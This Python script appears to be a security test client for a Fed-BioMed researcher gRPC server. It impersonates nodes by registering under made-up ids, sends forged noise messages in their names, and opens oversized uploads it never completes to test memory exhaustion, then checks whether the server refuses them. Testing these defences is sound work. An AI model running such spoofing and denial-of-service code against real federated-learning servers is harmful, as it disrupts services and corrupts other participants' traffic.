"""A client of a researcher's server that is no node (see `commands.py`).

    attacker.py PORT
"""

import os
import ssl
import sys
import threading
import time

import commands
import grpc
from fedbiomed.common.message import OverlayMessage
from fedbiomed.common.serializer import Serializer
from fedbiomed.transport.protocols import researcher_pb2, researcher_pb2_grpc

SLICE = 3_999_967  # bytes; the reference's

port = sys.argv[1]
certificate = ssl.get_server_certificate(("127.0.0.1", int(port))).encode()
channel = grpc.secure_channel(f"127.0.0.1:{port}", grpc.ssl_channel_credentials(certificate))
stub = researcher_pb2_grpc.ResearcherServiceStub(channel)
end = threading.Event()


def register(node):
    """Polls once under a node's id: from then on the server takes messages in that name."""
    call = stub.GetTaskUnary(researcher_pb2.TaskRequest(node=node, protocol_version="7"))
    time.sleep(0.02)
    call.cancel()


def forge(dest, sources, researcher_id):
    """Sends noise in the names of nodes that it makes up."""
    for source in sources:
        register(source)
        noise = OverlayMessage(
            researcher_id=researcher_id,
            node_id=source,
            dest_node_id=dest,
            overlay=os.urandom(300),
            setup=False,
            salt=os.urandom(32),
            nonce=os.urandom(16),
        )
        bytes_ = Serializer.dumps(noise.to_dict())
        stub.ReplyTask(iter([researcher_pb2.TaskResult(size=1, iteration=1, bytes_=bytes_)]))
    return {}


def begin_message(mib):
    """Sends so much of a message, and does not end it."""
    count = (mib << 20) // SLICE

    def slices():
        for iteration in range(1, count + 1):
            yield researcher_pb2.TaskResult(size=count + 1, iteration=iteration, bytes_=bytes(SLICE))
        end.wait()

    calls.append(stub.ReplyTask.future(slices()))
    return {}


calls = []


def refused():
    """Whether the server has ended a call that was begun."""
    return {"refused": any(call.done() for call in calls)}


commands.serve("attacker", forge=forge, begin_message=begin_message, refused=refused)
